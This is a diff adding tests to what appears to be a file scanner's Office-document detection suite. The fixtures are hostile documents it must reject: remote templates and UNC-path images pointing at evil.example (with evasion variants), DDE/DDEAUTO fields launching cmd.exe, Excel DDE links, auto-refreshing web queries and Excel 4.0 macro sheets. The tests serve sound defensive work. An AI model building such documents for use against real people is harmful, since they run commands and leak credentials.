@@ -211,6 +211,142 @@ describe('built-in engine: Office macros', () => {
     },
   );
 
+  const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
+  const rels = (relationship: string) =>
+    `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relationship}</Relationships>`;
+  const withPart = (name: string, data: string | Uint8Array) =>
+    buildOoxml('docx', { extra: [{ name, data }] });
+
+  it.each([
+    [
+      'a remote template whose TargetMode is a character reference',
+      'cv.docx',
+      withPart(
+        'word/_rels/settings.xml.rels',
+        rels(
+          `<Relationship Id="r" Type="${REL}/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="&#69;xternal"/>`,
+        ),
+      ),
+    ],
+    [
+      'a remote template after a > inside an attribute value',
+      'cv.docx',
+      withPart(
+        'word/_rels/settings.xml.rels',
+        rels(
+          `<Relationship Id="r" Type="${REL}/attachedTemplate" Target="http://evil.example/?a>b" TargetMode="External"/>`,
+        ),
+      ),
+    ],
+    [
+      'relationships written in UTF-16',
+      'cv.docx',
+      withPart(
+        'word/_rels/settings.xml.rels',
+        Buffer.concat([
+          Buffer.from([0xff, 0xfe]),
+          Buffer.from(
+            rels(
+              `<Relationship Id="r" Type="${REL}/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>`,
+            ),
+            'utf16le',
+          ),
+        ]),
+      ),
+    ],
+    [
+      "a picture linked from another computer (a UNC path leaks the reader's credentials)",
+      'cv.docx',
+      withPart(
+        'word/_rels/document.xml.rels',
+        rels(
+          `<Relationship Id="r" Type="${REL}/image" Target="\\\\evil.example\\share\\a.png" TargetMode="External"/>`,
+        ),
+      ),
+    ],
+    [
+      'a DDEAUTO field cut across runs',
+      'cv.docx',
+      buildOoxml('docx', {
+        replace: {
+          'word/document.xml':
+            '<w:document xmlns:w="w"><w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p></w:body></w:document>',
+        },
+      }),
+    ],
+    [
+      'a simple DDE field in a footer',
+      'cv.docx',
+      withPart(
+        'word/footer1.xml',
+        '<w:ftr xmlns:w="w"><w:fldSimple w:instr=" DDE cmd &quot;/c calc&quot; "/></w:ftr>',
+      ),
+    ],
+    [
+      'an INCLUDEPICTURE from another computer',
+      'cv.docx',
+      withPart(
+        'word/header1.xml',
+        '<w:hdr xmlns:w="w"><w:r><w:instrText>INCLUDEPICTURE "\\\\\\\\evil.example\\\\s\\\\a.png" \\d</w:instrText></w:r></w:hdr>',
+      ),
+    ],
+    [
+      'an Excel DDE link',
+      'cv.xlsx',
+      buildOoxml('xlsx', {
+        extra: [
+          {
+            name: 'xl/externalLinks/externalLink1.xml',
+            data: '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
+          },
+        ],
+      }),
+    ],
+    [
+      'an Excel web query',
+      'cv.xlsx',
+      buildOoxml('xlsx', {
+        extra: [
+          {
+            name: 'xl/connections.xml',
+            data: '<connections><connection id="1" refreshOnLoad="1"><webPr url="http://evil.example/q"/></connection></connections>',
+          },
+        ],
+      }),
+    ],
+  ])('rejects a document with %s', async (_, name, file) => {
+    expect((await scan(name, file)).rules).toEqual(['office-external-content']);
+  });
+
+  it('accepts a picture linked from beside the document, and a field that mentions DDE only in text', async () => {
+    const local = withPart(
+      'word/_rels/document.xml.rels',
+      rels(`<Relationship Id="r" Type="${REL}/image" Target="tiny-picture.png" TargetMode="External"/>`),
+    );
+    expect((await scan('cv.docx', local)).kind).toBe('clean');
+    const text = buildOoxml('docx', {
+      replace: {
+        'word/document.xml':
+          '<w:document xmlns:w="w"><w:body><w:p><w:r><w:t>DDEAUTO and DDE protocols, INCLUDEPICTURE \\\\host</w:t></w:r></w:p></w:body></w:document>',
+      },
+    });
+    expect((await scan('cv.docx', text)).kind).toBe('clean');
+  });
+
+  it('rejects Excel 4.0 macro sheets in a workbook, and macro content types written in UTF-16', async () => {
+    const sheet = buildOoxml('xlsx', {
+      extra: [{ name: 'xl/macrosheets/sheet1.xml', data: '<xm:macrosheet/>' }],
+    });
+    expect((await scan('cv.xlsx', sheet)).rules).toEqual(['office-macros']);
+    const types = `<?xml version="1.0" encoding="UTF-16"?><Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macro&#69;nabled.main+xml"/></Types>`;
+    const utf16 = buildOoxml('docx', {
+      replace: {
+        '[Content_Types].xml': Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(types, 'utf16le')]),
+      },
+    });
+    expect((await scan('cv.docx', utf16)).rules).toEqual(['office-macros']);
+  });
+
   it('rejects an executable embedded in a document', async () => {
     const r = await scan(
       'cv.docx',
